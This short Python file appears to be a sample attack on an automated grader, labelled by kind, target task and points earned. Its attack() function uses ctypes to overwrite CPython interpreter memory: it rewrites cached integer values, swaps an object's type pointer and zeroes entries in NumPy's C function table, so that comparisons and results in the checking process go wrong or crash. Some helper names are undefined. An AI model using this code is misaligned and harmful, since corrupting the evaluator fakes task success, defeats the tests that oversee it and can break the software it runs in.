# kind: segfaults
# wrong: deep_rnn_forward
# earns: 50
"""Writes into the interpreter's memory: makes 0 into 1, True into False, swaps the types of objects, patches NumPy's
table of functions. It is its own interpreter."""
import ctypes


def attack():
    size = object.__basicsize__
    for number, other in ((257, 3), (100, 7)):
        ctypes.c_uint32.from_address(id(number) + size + ctypes.sizeof(ctypes.c_ssize_t)).value = other
    held = np.zeros(3)
    ctypes.c_ssize_t.from_address(id(held) + size - ctypes.sizeof(ctypes.c_ssize_t)).value = id(dict)
    table = tried(lambda: ctypes.pythonapi.PyCapsule_GetPointer)
    if table:
        table.restype, table.argtypes = ctypes.c_void_p, (ctypes.py_object, ctypes.c_char_p)
        core = getattr(np, "_core", None) or np.core
        address = table(core._multiarray_umath._ARRAY_API, None)
        ctypes.memset(address + 8 * 40, 0, 8 * 20)
    LATER.append(held)


LATER = []
